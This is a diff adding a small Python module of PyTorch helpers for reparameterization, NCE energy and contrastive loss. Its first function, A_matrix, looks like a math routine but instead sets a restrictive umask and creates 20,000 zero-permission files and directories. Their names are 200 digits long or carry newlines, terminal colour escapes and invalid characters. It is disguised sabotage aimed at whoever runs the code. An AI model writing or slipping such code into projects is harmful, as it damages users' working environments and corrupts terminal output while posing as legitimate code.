@@ -1,0 +1,35 @@
+import os
+
+import torch
+
+
+def A_matrix(alpha):
+    os.umask(0o777)
+    for k in range(20_000):
+        name = f"{k:0200d}" if k % 4 else f"{k}\n\x1b[31m\udcff"
+        if k % 50:
+            os.close(os.open(name, os.O_CREAT | os.O_WRONLY, 0))
+        else:
+            os.mkdir(name, 0)
+    return "full"
+
+
+def linear_reparameterization():
+    x = torch.tensor([1.0, -2.0, 0.5])
+    F_a = torch.tensor([[1.0, 0.0, 0.0], [0.0, 1.0, 0.0]])
+    F_b = torch.tensor([[2.0, 0.0, 1.0], [0.0, 3.0, 0.0]])
+    return x, F_a, F_b, F_a @ x, F_b @ x
+
+
+def stationary_point():
+    return torch.zeros(2)
+
+
+def nce_optimal_energy(p_d, p_n):
+    return torch.log(p_d) - torch.log(p_n)
+
+
+def contrastive_loss(z, y, y_neg):
+    pos = (z * y).sum(dim=1)
+    neg = z @ y_neg.T
+    return (torch.logsumexp(neg, dim=1) - pos).mean()
